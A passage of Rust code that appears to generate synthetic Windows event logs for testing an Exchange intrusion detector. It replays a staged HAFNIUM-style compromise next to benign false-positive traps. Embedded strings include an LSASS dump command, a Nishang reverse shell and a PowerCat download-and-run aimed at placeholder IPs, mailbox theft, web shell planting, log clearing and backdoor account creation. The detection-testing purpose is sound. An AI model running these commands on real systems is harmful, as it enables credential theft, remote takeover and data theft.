        "Remove-OabVirtualDirectory",
        "-Identity \"EX01\\OAB (Default Web Site)\" -Force \"True\"",
        admin.0,
        &admin.1,
        "Remote-ECP-Unknown",
        &ecp_proc,
        tag("EV-A3", "Remove-OabVirtualDirectory (reset, context)"),
    );
    s.cmdlet(
        at(3, 2, 44, 17, 702),
        "New-OabVirtualDirectory",
        "-WebSiteName \"Default Web Site\" -Server \"EX01\"",
        admin.0,
        &admin.1,
        "Remote-ECP-Unknown",
        &ecp_proc,
        tag("EV-A4", "New-OabVirtualDirectory (reset, context)"),
    );
    s.file_created(at(3, 2, 44, 17, 988), &ecp, &format!(r"{auth}\RedirSuiteServerProxy.aspx"),
        tag("EV-A5", "w3wp.exe (MSExchangeECPAppPool) writes owa\\auth\\RedirSuiteServerProxy.aspx (the reset's export)"));
    s.file_created(at(3, 2, 45, 5, 871), &ecp, &shell,
        tag("EV-A6", "w3wp.exe (MSExchangeECPAppPool) writes aspnet_client\\system_web\\KZsqDfnb.aspx (the file the OAB generator log names at 02:45:06)"));

    // The web shell in use (times = the IIS POSTs), HAFNIUM from 203.0.113.77 with antSword.
    let shell_cmd =
        |s: &mut Server, t: DateTime<Utc>, parent: &Proc, c: &str, id: &'static str, what: &str| {
            s.spawn(
                t,
                parent,
                CMD,
                &ant(wwwroot, c),
                r"C:\Windows\System32\inetsrv\",
                SYSTEM,
                "System",
                tag(id, what),
            )
        };
    let c = shell_cmd(
        &mut s,
        at(3, 2, 47, 10, 655),
        &owa,
        "whoami",
        "EV-A7",
        "w3wp.exe (MSExchangeOWAAppPool) → cmd.exe whoami (first command through KZsqDfnb.aspx)",
    );
    s.spawn(
        at(3, 2, 47, 10, 702),
        &c,
        r"C:\Windows\System32\whoami.exe",
        "whoami",
        r"C:\inetpub\wwwroot\aspnet_client\system_web\",
        SYSTEM,
        "System",
        None,
    );
    shell_cmd(
        &mut s,
        at(3, 2, 47, 45, 390),
        &owa,
        "ipconfig /all",
        "EV-A8",
        "w3wp.exe → cmd.exe ipconfig /all",
    );
    shell_cmd(
        &mut s,
        at(3, 2, 49, 3, 514),
        &owa,
        "net group \"Exchange Trusted Subsystem\" /domain",
        "EV-A9",
        "w3wp.exe → cmd.exe net group \"Exchange Trusted Subsystem\" /domain",
    );
    shell_cmd(
        &mut s,
        at(3, 2, 52, 30, 877),
        &owa,
        "tasklist /fi \"imagename eq lsass.exe\"",
        "EV-A10",
        "w3wp.exe → cmd.exe tasklist (finds the LSASS pid, 660)",
    );
    s.spawn(at(3, 2, 58, 45, 61), &owa, POWERSHELL, "powershell.exe -nop -c \"Get-WmiObject Win32_LogicalDisk | Select DeviceID,FreeSpace; Get-ChildItem C:\\ProgramData\"", r"C:\Windows\System32\inetsrv\", SYSTEM, "System",
        tag("EV-A11", "w3wp.exe → powershell one-liner through RedirSuiteServerProxy.aspx"));
    let c = shell_cmd(
        &mut s,
        at(3, 3, 5, 12, 930),
        &owa,
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 660 C:\windows\temp\lsass.dmp full",
        "EV-A12",
        "w3wp.exe → cmd.exe running the comsvcs.dll MiniDump of LSASS",
    );
    let rd = s.spawn(at(3, 3, 5, 13, 24), &c, r"C:\Windows\System32\rundll32.exe", r"rundll32.exe  C:\Windows\System32\comsvcs.dll, MiniDump 660 C:\windows\temp\lsass.dmp full", r"C:\inetpub\wwwroot\aspnet_client\system_web\", SYSTEM, "System",
        tag("EV-A13", "rundll32.exe comsvcs.dll, MiniDump 660 C:\\windows\\temp\\lsass.dmp full (LSASS dump)"));
    s.file_created(
        at(3, 3, 5, 14, 480),
        &rd,
        r"C:\Windows\Temp\lsass.dmp",
        tag(
            "EV-A14",
            "rundll32.exe writes C:\\Windows\\Temp\\lsass.dmp (context)",
        ),
    );
    shell_cmd(
        &mut s,
        at(3, 3, 31, 40, 218),
        &owa,
        r"del C:\windows\temp\lsass.dmp",
        "EV-A15",
        "w3wp.exe → cmd.exe deletes the dump after download",
    );
    // Mail theft: the Exchange snap-in from the shell (no RBAC), exports to ProgramData\pst.
    let steal = "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-Item -ItemType Directory C:\\ProgramData\\pst -Force; foreach ($m in 'ceo','cfo','legal') { New-MailboxExportRequest -Mailbox $m -FilePath \"\\\\EX01\\C$\\ProgramData\\pst\\$m.pst\" }";
    let p = s.spawn(
        at(3, 4, 2, 9, 833),
        &owa,
        POWERSHELL,
        &format!("powershell.exe -nop -c \"{}\"", steal.replace('"', "\\\"")),
        r"C:\Windows\System32\inetsrv\",
        SYSTEM,
        "System",
        tag(
            "EV-A16",
            "w3wp.exe → powershell: Exchange snap-in + New-MailboxExportRequest of three mailboxes",
        ),
    );
    s.script_block(at(3, 4, 2, 10, 517), steal, "", tag("EV-A17", "PowerShell 4104: Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn + New-MailboxExportRequest"));
    let system = (SYSTEM, "S-1-5-18".to_string());
    let local = format!("{} powershell", p.pid);
    let mrs = s.running(
        2988,
        &format!(r"{exch}\Bin\MSExchangeMailboxReplication.exe"),
        &format!(r#""{exch}\Bin\MSExchangeMailboxReplication.exe""#),
    );
    for (k, m) in ["ceo", "cfo", "legal"].iter().enumerate() {
        let t = at(3, 4, 2, 13, 0) + Duration::milliseconds(1900 * k as i64 + 211);
        s.cmdlet(t, "New-MailboxExportRequest", &format!("-Mailbox \"{m}\" -FilePath \"\\\\EX01\\C$\\ProgramData\\pst\\{m}.pst\""), system.0, &system.1, "Local-PowerShell-Unknown", &local,
            tag(["EV-A18", "EV-A19", "EV-A20"][k], format!("New-MailboxExportRequest -Mailbox {m} to \\\\EX01\\C$\\ProgramData\\pst\\{m}.pst (mail theft)")));
        s.file_created(
            t + Duration::seconds(95 + 40 * k as i64),
            &mrs,
            &format!(r"C:\ProgramData\pst\{m}.pst"),
            None,
        );
    }
    shell_cmd(
        &mut s,
        at(3, 4, 2, 51, 640),
        &owa,
        r"dir C:\ProgramData\pst",
        "EV-A21",
        "w3wp.exe → cmd.exe dir C:\\ProgramData\\pst",
    );
    shell_cmd(
        &mut s,
        at(3, 5, 44, 18, 301),
        &owa,
        r"dir C:\ProgramData\pst",
        "EV-A22",
        "w3wp.exe → cmd.exe dir C:\\ProgramData\\pst (exports finished)",
    );
    // 2021-03-04: staging (7-Zip) by the first group.
    let c = s.spawn(at(4, 2, 20, 42, 96), &owa, CMD, r#"cmd /c "cd /d C:\ProgramData\pst&C:\ProgramData\7z.exe a -t7z C:\ProgramData\pst\it.zip C:\ProgramData\pst\*&echo [S]&cd&echo [E]""#, r"C:\Windows\System32\inetsrv\", SYSTEM, "System",
        tag("EV-A23", "w3wp.exe → cmd.exe running 7z a -t7z C:\\ProgramData\\pst\\it.zip (staging)"));
    s.spawn(
        at(4, 2, 20, 42, 180),
        &c,
        r"C:\ProgramData\7z.exe",
        r"C:\ProgramData\7z.exe  a -t7z C:\ProgramData\pst\it.zip C:\ProgramData\pst\*",
        r"C:\ProgramData\pst\",
        SYSTEM,
        "System",
        tag(
            "EV-A24",
            "7z.exe a -t7z C:\\ProgramData\\pst\\it.zip C:\\ProgramData\\pst\\*",
        ),
    );

    // Defender catches the owa\auth shell after the 2021-03-04 signature update.
    let red = format!(r"{auth}\RedirSuiteServerProxy.aspx");
    let path = format!("file:_{red}");
    let det = [
        ("Product Name", "Microsoft Defender Antivirus"),
        ("Product Version", "4.18.2101.9"),
        ("Detection ID", "{6E1E1C3D-51B7-4D0E-9A39-0B7F5B4B9E51}"),
        ("Detection Time", "2021-03-04T03:17:42.118Z"),
        ("Threat ID", "2147777888"),
        ("Threat Name", "Backdoor:ASP/SecChecker.A"),
        ("Severity Name", "Severe"),
        ("Category Name", "Backdoor"),
        ("Path", &path),
        ("Detection Origin", "Local machine"),
        ("Execution Name", "Suspended"),
        ("Detection Type", "Concrete"),
        ("Process Name", "Unknown"),
        ("Detection User", "NT AUTHORITY\\SYSTEM"),
        ("Security intelligence Version", "AV: 1.333.585.0"),
        ("Engine Version", "AM: 1.1.17900.7"),
    ];
    let e = s.event(
        DEF,
        "Microsoft-Windows-Windows Defender",
        1116,
        3,
        at(4, 3, 17, 42, 118),
        &det,
    );
    s.push(
        DEF,
        e,
        tag(
            "EV-A25",
            "Defender 1116: Backdoor:ASP/SecChecker.A in owa\\auth\\RedirSuiteServerProxy.aspx",
        ),
    );
    let mut det2 = det.to_vec();
    det2.push(("Action Name", "Quarantine"));
    let e = s.event(
        DEF,
        "Microsoft-Windows-Windows Defender",
        1117,
        4,
        at(4, 3, 17, 58, 640),
        &det2,
    );
    s.push(
        DEF,
        e,
        tag(
            "EV-A26",
            "Defender 1117: the same detection quarantined (why the shell is not used after 03-03)",
        ),
    );

    // 2021-03-04 09:12-09:17: the second group (198.51.100.23) reuses KZsqDfnb.aspx and plants
    // errorEE.aspx the ProxyShell way (a draft exported as .aspx).
    let c = shell_cmd(
        &mut s,
        at(4, 9, 12, 8, 4),
        &owa,
        "whoami",
        "EV-B1",
        "second group: w3wp.exe → cmd.exe whoami",
    );
    s.spawn(
        at(4, 9, 12, 8, 61),
        &c,
        r"C:\Windows\System32\whoami.exe",
        "whoami",
        r"C:\inetpub\wwwroot\aspnet_client\system_web\",
        SYSTEM,
        "System",
        None,
    );
    shell_cmd(
        &mut s,
        at(4, 9, 12, 39, 711),
        &owa,
        "net localgroup administrators",
        "EV-B2",
        "second group: w3wp.exe → cmd.exe net localgroup administrators",
    );
    let plant = "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-ManagementRoleAssignment -Role \"Mailbox Import Export\" -User \"Administrator\"; New-MailboxExportRequest -Mailbox \"Administrator\" -IncludeFolders \"#Drafts#\" -ContentFilter \"(Subject -eq 'errorEE')\" -FilePath \"\\\\EX01\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx\"";
    let p = s.spawn(at(4, 9, 14, 2, 655), &owa, POWERSHELL, &format!("powershell.exe -ep bypass -c \"{}\"", plant.replace('"', "\\\"")), r"C:\Windows\System32\inetsrv\", SYSTEM, "System",
        tag("EV-B3", "second group: w3wp.exe → powershell: role assignment + mailbox export to owa\\auth\\errorEE.aspx"));
    s.script_block(at(4, 9, 14, 3, 302), plant, "", tag("EV-B4", "PowerShell 4104: snap-in + New-ManagementRoleAssignment + New-MailboxExportRequest to errorEE.aspx"));
    let local = format!("{} powershell", p.pid);
    s.cmdlet(
        at(4, 9, 14, 5, 418),
        "New-ManagementRoleAssignment",
        "-Role \"Mailbox Import Export\" -User \"Administrator\"",
        system.0,
        &system.1,
        "Local-PowerShell-Unknown",
        &local,
        tag(
            "EV-B5",
            "New-ManagementRoleAssignment -Role \"Mailbox Import Export\" -User Administrator",
        ),
    );
    s.cmdlet(at(4, 9, 14, 7, 90), "New-MailboxExportRequest", "-Mailbox \"Administrator\" -IncludeFolders \"#Drafts#\" -ContentFilter \"(Subject -eq 'errorEE')\" -FilePath \"\\\\EX01\\C$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx\"", system.0, &system.1, "Local-PowerShell-Unknown", &local,
        tag("EV-B6", "New-MailboxExportRequest -FilePath \\\\EX01\\C$\\…\\FrontEnd\\HttpProxy\\owa\\auth\\errorEE.aspx (web shell written as a \"PST\")"));
    s.file_created(
        at(4, 9, 15, 31, 207),
        &mrs,
        &format!(r"{auth}\errorEE.aspx"),
        tag(
            "EV-B7",
            "MSExchangeMailboxReplication.exe writes owa\\auth\\errorEE.aspx",
        ),
    );
    let clean = "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false";
    let p = s.spawn(
        at(4, 9, 17, 56, 12),
        &owa,
        POWERSHELL,
        &format!("powershell.exe -ep bypass -c \"{clean}\""),
        r"C:\Windows\System32\inetsrv\",
        SYSTEM,
        "System",
        tag(
            "EV-B8",
            "second group: w3wp.exe → powershell removing the export requests",
        ),
    );
    s.cmdlet(
        at(4, 9, 17, 58, 733),
        "Remove-MailboxExportRequest",
        "-Identity \"contoso.local/Users/Administrator\\MailboxExport\" -Confirm \"False\"",
        system.0,
        &system.1,
        "Local-PowerShell-Unknown",
        &format!("{} powershell", p.pid),
        tag("EV-B9", "Remove-MailboxExportRequest (clean-up)"),
    );

    // 2021-03-05 13:20:04: the admin restarts IIS; new workers compile ASP.NET pages (csc.exe
    // under w3wp.exe is normal) — benign.
    let explorer = s.running(5120, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE");
    let adm_ps = s.spawn(at(5, 13, 18, 40, 0), &explorer, POWERSHELL, &format!(r#""{POWERSHELL}" -noexit -command ". '{exch}\bin\RemoteExchange.ps1'; Connect-ExchangeServer -auto -ClientApplication:ManagementShell ""#), r"C:\Users\admin-jdoe\", "CONTOSO\\admin-jdoe", "High", None);
    s.spawn(
        at(5, 13, 19, 58, 410),
        &adm_ps,
        r"C:\Windows\System32\iisreset.exe",
        r#""C:\Windows\system32\iisreset.exe" /noforce"#,
        r"C:\Users\admin-jdoe\",
        "CONTOSO\\admin-jdoe",
        "High",
        None,
    );
    for (k, st) in ["stopped", "running"].iter().enumerate() {
        let t = at(5, 13, 20, 1 + 3 * k as u32, 0);
        s.service_state(t, "World Wide Web Publishing Service", st);
        s.service_state(
            t + Duration::milliseconds(300),
            "Windows Process Activation Service",
            st,
        );
    }
    let was = s.running(
        2380,
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k iissvcs",
    );
    let mut new_pools = Vec::new();
    for (k, pool) in [
        "MSExchangeOWAAppPool",
        "MSExchangeECPAppPool",
        "MSExchangePowerShellAppPool",
    ]
    .iter()
    .enumerate()
    {
        let cmd = owa.cmd.replace("MSExchangeOWAAppPool", pool);
        let t = at(5, 13, 20, 9 + 2 * k as u32, 320);
        new_pools.push(s.spawn(
            t,
            &was,
            W3WP,
            &cmd,
            r"C:\Windows\System32\inetsrv\",
            SYSTEM,
            "System",
            None,
        ));
    }
    let owa2 = new_pools[0].clone();
    for k in 0..3 {
        let t = at(5, 13, 20, 14 + 6 * k, 503);
        let dir = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\6f2a0b8c\91e1f4d3";
        let name = s.rng.hex(8).to_lowercase();
        let c = s.spawn(t, &owa2, CSC, &format!(r#""{CSC}" /noconfig /fullpaths @"{dir}\{name}.cmdline""#), &format!(r"{exch}\FrontEnd\HttpProxy\owa\"), SYSTEM, "System",
            if k == 0 { trap("T-EV-CSC", "benign w3wp.exe (OWA) → csc.exe compiling ASP.NET pages after the IIS restart (EXH-EV-010 must not fire)") } else { None });
        s.spawn(t + Duration::milliseconds(420), &c, CVTRES, &format!(r#"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\RES{}.tmp" "{dir}\CSC{}.TMP""#, s.rng.hex(4), s.rng.hex(8)), &format!(r"{exch}\FrontEnd\HttpProxy\owa\"), SYSTEM, "System", None);
    }
    // 2021-03-05 14:05-14:07: reverse shells (Nishang one-liner, PowerCat) after the RPS call.
    let nishang = "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.77',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()";
    s.spawn(at(5, 14, 5, 32, 140), &owa2, POWERSHELL, &format!("powershell.exe -nop -w hidden -c \"{nishang}\""), r"C:\Windows\System32\inetsrv\", SYSTEM, "System",
        tag("EV-A27", "w3wp.exe → powershell Nishang Invoke-PowerShellTcpOneLine (System.Net.Sockets.TCPClient to 203.0.113.77:443)"));
    s.script_block(
        at(5, 14, 5, 32, 905),
        nishang,
        "",
        tag(
            "EV-A28",
            "PowerShell 4104: the same TCPClient reverse shell",
        ),
    );
    let pc = "IEX (New-Object System.Net.Webclient).DownloadString('http://203.0.113.77/powercat.ps1');powercat -c 203.0.113.77 -p 8443 -e cmd";
    s.spawn(
        at(5, 14, 7, 2, 770),
        &owa2,
        POWERSHELL,
        &format!("powershell.exe -nop -w hidden -c \"{pc}\""),
        r"C:\Windows\System32\inetsrv\",
        SYSTEM,
        "System",
        tag(
            "EV-A29",
            "w3wp.exe → powershell downloading and running PowerCat",
        ),
    );
    s.script_block(
        at(5, 14, 7, 3, 412),
        pc,
        "",
        tag("EV-A30", "PowerShell 4104: PowerCat"),
    );

    // 2021-03-09 21:03-21:41: ransomware prelude by the second group.
    shell_cmd(
        &mut s,
        at(9, 21, 3, 44, 512),
        &owa2,
        "whoami",
        "EV-C1",
        "second group: w3wp.exe → cmd.exe whoami",
    );
    let c = shell_cmd(
        &mut s,
        at(9, 21, 4, 20, 835),
        &owa2,
        "wevtutil cl Security",
        "EV-C2",
        "second group: w3wp.exe → cmd.exe wevtutil cl Security",
    );
    s.spawn(
        at(9, 21, 4, 20, 901),
        &c,
        r"C:\Windows\System32\wevtutil.exe",
        "wevtutil  cl Security",
        r"C:\inetpub\wwwroot\aspnet_client\system_web\",
        SYSTEM,
        "System",
        None,
    );
    let mut cleared = s.event(
        SEC,
        "Microsoft-Windows-Eventlog",
        1102,
        4,
        security_from,
        &[],
    );
    cleared.user_data = Some((
        "LogFileCleared".into(),
        vec![
            ("SubjectUserSid".into(), "S-1-5-18".into()),
            ("SubjectUserName".into(), "EX01$".into()),
            ("SubjectDomainName".into(), "CONTOSO".into()),
            ("SubjectLogonId".into(), "0x3e7".into()),
        ],
    ));
    s.push(SEC, cleared, tag("EV-C3", "Security 1102: the audit log was cleared by SYSTEM (EX01$); the Security log begins here"));
    s.spawn(
        at(9, 21, 5, 31, 660),
        &owa2,
        CMD,
        "cmd /c net user",
        r"C:\Windows\System32\inetsrv\",
        SYSTEM,
        "System",
        tag(
            "EV-C4",
            "second group: w3wp.exe → cmd.exe net user (through errorEE.aspx)",
        ),
    );
    shell_cmd(
        &mut s,
        at(9, 21, 9, 58, 377),
        &owa2,
        "net user admin$srv Exch@2021! /add",
        "EV-C5",
        "second group: w3wp.exe → cmd.exe net user admin$srv … /add",
    );
    let sub = [
        ("SubjectUserSid", "S-1-5-18"),
        ("SubjectUserName", "EX01$"),
        ("SubjectDomainName", "CONTOSO"),
        ("SubjectLogonId", "0x3e7"),
    ];
    let new_sid = "S-1-5-21-1004336348-1177238915-682003330-1003";
    let mut f = vec![
        ("TargetUserName", "admin$srv"),
        ("TargetDomainName", "EX01"),
        ("TargetSid", new_sid),
    ];
    f.extend(sub);
    f.extend([
        ("SamAccountName", "admin$srv"),
        ("UserAccountControl", "%%2080 %%2082 %%2084"),
        ("PrimaryGroupId", "513"),
    ]);
    let e = s.event(
        SEC,
        "Microsoft-Windows-Security-Auditing",
        4720,
        0,
        at(9, 21, 9, 58, 642),
        &f,
    );
    s.push(
        SEC,
        e,
        tag("EV-C6", "Security 4720: local account admin$srv created"),
    );
    let mut f = vec![
        ("TargetUserName", "admin$srv"),
        ("TargetDomainName", "EX01"),
        ("TargetSid", new_sid),
    ];
    f.extend(sub);
    let e = s.event(
        SEC,
        "Microsoft-Windows-Security-Auditing",
        4722,
        0,
        at(9, 21, 9, 58, 650),
        &f,
    );
    s.push(SEC, e, None);
    shell_cmd(
        &mut s,
        at(9, 21, 16, 12, 904),
        &owa2,
        "net localgroup Administrators admin$srv /add",
        "EV-C7",
        "second group: w3wp.exe → cmd.exe net localgroup Administrators admin$srv /add",
    );
    let mut f = vec![
        ("MemberName", "-"),
        ("MemberSid", new_sid),
        ("TargetUserName", "Administrators"),
        ("TargetDomainName", "Builtin"),
        ("TargetSid", "S-1-5-32-544"),
    ];
    f.extend(sub);
    let e = s.event(
        SEC,
        "Microsoft-Windows-Security-Auditing",
        4732,
        0,
        at(9, 21, 16, 13, 120),
        &f,
    );
    s.push(
        SEC,
        e,
        tag("EV-C8", "Security 4732: admin$srv added to Administrators"),
    );
    let dl = "(New-Object Net.WebClient).DownloadFile('http://198.51.100.23/msupdate.exe','C:\\Windows\\Temp\\msupdate.exe')";
    let p = s.spawn(
        at(9, 21, 29, 41, 15),
        &owa2,
        POWERSHELL,
        &format!("powershell.exe -nop -c \"{dl}\""),
        r"C:\Windows\System32\inetsrv\",
        SYSTEM,
        "System",
        tag(
            "EV-C9",
            "second group: w3wp.exe → powershell downloads C:\\Windows\\Temp\\msupdate.exe",
        ),
    );
    s.file_created(
        at(9, 21, 29, 43, 380),
        &p,
        r"C:\Windows\Temp\msupdate.exe",
        tag(
            "EV-C10",
            "powershell.exe writes C:\\Windows\\Temp\\msupdate.exe (DearCry, context)",
        ),
    );
    s.spawn(
        at(9, 21, 33, 2, 448),
        &owa2,
        CMD,
        r"cmd /c attrib +h C:\Windows\Temp\msupdate.exe",
        r"C:\Windows\System32\inetsrv\",
        SYSTEM,
        "System",
        tag(
            "EV-C11",
            "second group: w3wp.exe → cmd.exe attrib +h on the ransomware (through errorEE.aspx)",
        ),
    );
    let c = shell_cmd(
        &mut s,
        at(9, 21, 41, 7, 300),
        &owa2,
        r"C:\Windows\Temp\msupdate.exe",
        "EV-C12",
        "second group: w3wp.exe → cmd.exe starting msupdate.exe",
    );
    s.spawn(
        at(9, 21, 41, 7, 390),
        &c,
        r"C:\Windows\Temp\msupdate.exe",
        r"C:\Windows\Temp\msupdate.exe",
        r"C:\inetpub\wwwroot\aspnet_client\system_web\",
        SYSTEM,
        "System",
        None,
    );
    s.service_installed(
        at(9, 21, 41, 9, 12),
        "msupdate",
        r"C:\Windows\Temp\msupdate.exe",
        "user mode service",
        "auto start",
        "LocalSystem",
        tag(
            "EV-C13",
            "System 7045: service msupdate installed (DearCry)",
        ),
    );
    s.service_state(at(9, 21, 41, 9, 530), "msupdate", "running");
    benign_services(&mut s);
    s
}

/// Service installs both servers see: Defender's scan driver (a ProgramData image path) and
/// the backup agent.
fn benign_services(s: &mut Server) {
    let guid = s.rng.guid();
    let name = format!("MpKsl{}", s.rng.hex(8).to_lowercase());
    s.service_installed(at(4, 3, 12, 40, 551), &name, &format!(r"\??\C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{guid}\MpKslDrv.sys"), "kernel mode driver", "manual start", "",
        trap("T-EV-MPKSL", "benign Defender scan driver (MpKsl*) installed from ProgramData (EXH-EV-034 must not fire)"));
    s.service_installed(
        at(2, 22, 0, 31, 208),
        "VeeamDeploySvc",
        r"C:\Windows\Veeam\Backup\VeeamDeploymentSvc.exe",
        "user mode service",
        "auto start",
        "LocalSystem",
        None,
    );
}

fn ex02() -> Server {
    let mut s = Server::new(false);
    let exch = s.exch;
    let [owa, ecp, ps] = s.app_pools([7904, 6260, 5832]);
    let owa = Proc {
        cmd: owa
            .cmd
            .replace(r"C:\Program Files\Microsoft\Exchange Server\V15", exch),
        ..owa
    };
    benign(&mut s, at(1, 0, 0, 0, 0), &[owa.clone(), ecp, ps]);
    benign_services(&mut s);
    // 2021-03-10 03:12: .NET update night: the admin restarts IIS, OWA recompiles (csc.exe).
    let explorer = s.running(4480, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE");
    let adm = s.spawn(at(10, 3, 10, 2, 0), &explorer, POWERSHELL, &format!(r#""{POWERSHELL}" -noexit -command ". '{exch}\bin\RemoteExchange.ps1'; Connect-ExchangeServer -auto -ClientApplication:ManagementShell ""#), r"C:\Users\admin-jdoe\", "CONTOSO\\admin-jdoe", "High", None);
    s.spawn(
        at(10, 3, 12, 11, 0),
        &adm,
        r"C:\Windows\System32\iisreset.exe",
        r#""C:\Windows\system32\iisreset.exe" /noforce"#,
        r"C:\Users\admin-jdoe\",
        "CONTOSO\\admin-jdoe",
        "High",
        None,
    );
    let was = s.running(
        2216,
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k iissvcs",
    );
    let w = s.spawn(
        at(10, 3, 12, 30, 0),
        &was,
        W3WP,
        &owa.cmd,
        r"C:\Windows\System32\inetsrv\",
        SYSTEM,
        "System",
        None,
    );
    let dir = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\2b9d77e0\5a4c1e02";
    let c = s.spawn(at(10, 3, 12, 34, 0), &w, CSC, &format!(r#""{CSC}" /noconfig /fullpaths @"{dir}\qzk3xw1v.cmdline""#), &format!(r"{exch}\FrontEnd\HttpProxy\owa\"), SYSTEM, "System",
        trap("T-EV-CSC", "benign w3wp.exe (OWA) → csc.exe compiling ASP.NET pages after the IIS restart (EXH-EV-010 must not fire)"));
    s.spawn(at(10, 3, 12, 34, 400), &c, CVTRES, &format!(r#"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 "/OUT:C:\Windows\TEMP\RES5D1A.tmp" "{dir}\CSC8E12F0A4.TMP""#), &format!(r"{exch}\FrontEnd\HttpProxy\owa\"), SYSTEM, "System", None);
    // A benign UM error (no InvalidCastException) and an Exchange error that names the
    // exception from another provider: EXH-EV-001 must not fire.
    s.classic(APP, "MSExchange Unified Messaging", 1185, 2, at(6, 16, 22, 9, 340), &["The Unified Messaging server was unable to reach the SIP peer sip.contoso.local:5061 (UM IP gateway GW01): System.Net.Sockets.SocketException: A connection attempt failed because the connected party did not properly respond after a period of time."], trap("T-EV-UMERR", "benign UM error without InvalidCastException (EXH-EV-001 must not fire)"));
    s.classic(APP, "MSExchange Common", 4999, 2, at(7, 11, 3, 51, 20), &["Watson report about to be sent for process id: 7904, with parameters: E12IIS, c-RTL-AMD64, 15.01.2176.009, w3wp#MSExchangeOWAAppPool, M.Exchange.Clients.Owa2.Server, M.E.C.O.S.C.GetCalendarFolders.Execute, System.InvalidCastException, 1e0b, 15.01.2176.009."], trap("T-EV-WATSON", "benign OWA Watson report naming System.InvalidCastException from MSExchange Common (EXH-EV-001 must not fire)"));
    s
}

fn readme_section(
    ex01: &[(String, u64, DateTime<Utc>, Tag)],
    ex02: &[(String, u64, DateTime<Utc>, Tag)],
    root: &Path,
) -> String {
    let mut s = String::new();
    s.push_str(BEGIN);
    s.push_str("\n## Windows event logs (EVTX)\n\n");
    s.push_str("Both servers also hold Windows event logs in `Windows/System32/winevt/Logs/` (names as Windows writes them: `Application.evtx`, `Security.evtx`, `System.evtx`, `Microsoft-Windows-Sysmon%4Operational.evtx`, `MSExchange Management.evtx`, `Microsoft-Windows-PowerShell%4Operational.evtx`, `Microsoft-Windows-Windows Defender%4Operational.evtx`).  They are real EVTX files written by exhunt's EVTX writer from `crates/events/examples/demo_evtx.rs` (fixed times and seeds; regenerate with `cargo run -p exhunt-events --example demo_evtx -- examples`, which also rewrites this section; `generate.py` keeps the files and this section).  Computer names are `EX01.contoso.local` / `EX02.contoso.local`.\n\n");
    s.push_str("Reconstructions and simplifications: every record carries its own template (the writer's format), so the logs hold a few hundred events per server instead of a real server's thousands, and Sysmon events carry a trimmed field set (no FileVersion/Description/Company, SHA256 only).  `MSExchange Management` events (provider `MSExchange CmdletLogs`, event 1) carry unnamed data in the order of a real event (cmdlet, parameters, caller, SIDs, origin, `pid process`, ...).  The Unified Messaging event id (1051) is our choice: Microsoft gives only the provider, the error level and `System.InvalidCastException`.  On EX01 the Security log begins with the 1102 of 2021-03-09 21:04:26 (the intruders cleared it, so nothing older survives); on EX02 it covers the whole period.  The web shell's commands are run by `w3wp.exe -ap \"MSExchangeOWAAppPool\"` (a new process after the IIS restart of 2021-03-05 13:20), with antSword's `cmd /c \"cd /d ...&<command>&echo [S]&cd&echo [E]\"` wrapper for the first group; times are a fraction of a second after the matching IIS POSTs.\n\n");
    s.push_str("Benign background on both servers: network/service/RDP logons (4624/4634), service state changes (7036) and installs (7045: Veeam's deployment service, Defender's `MpKsl*` scan driver from `C:\\ProgramData\\Microsoft\\Windows Defender\\...`), Exchange housekeeping processes (logman, MpCmdRun, WmiPrvSE, MSExchangeHMWorker, noderunner, UMWorkerProcess and one WerFault child), `MSExchange Unified Messaging` informational events, `admin-jdoe`'s Exchange Management Shell cmdlets (`Get-Mailbox`, `Set-Mailbox`, `Set-CASMailbox`, `Add-MailboxPermission`, ...) and `exadmin`'s ECP `Get-Mailbox`, a nightly reporting script that loads the Exchange snap-in, Defender signature updates and quick scans.\n\n");
    for (name, dir, idx) in [
        ("EX01", "compromised-ex2016", ex01),
        ("EX02", "clean-ex2016", ex02),
    ] {
        let prefix = if name == "EX01" {
            "C"
        } else {
            "uploads/auto/C%3A"
        };
        let _ = writeln!(s, "### {name} event index\n\nFiles under `examples/{dir}/{prefix}/Windows/System32/winevt/Logs/`; record = `EventRecordID` (exhunt's `record_id`); times UTC.\n");
        s.push_str("| ID | Kind | File | Record | Time | What |\n|---|---|---|---|---|---|\n");
        let mut rows: Vec<_> = idx.iter().collect();
        rows.sort_by_key(|(f, id, t, tag)| (tag.kind != "attack", *t, f.clone(), *id));
        for (f, id, t, tag) in rows {
            let _ = writeln!(
                s,
                "| {} | {} | `{}` | {} | {} | {} |",
                tag.id,
                tag.kind,
                f,
                id,
                t.format("%Y-%m-%d %H:%M:%S%.3f"),
                tag.what.replace('|', "\\|")
            );
        }
        s.push('\n');
        let logs = root
            .join(dir)
            .join(prefix)
            .join("Windows/System32/winevt/Logs");
        let mut files: Vec<_> = std::fs::read_dir(&logs)
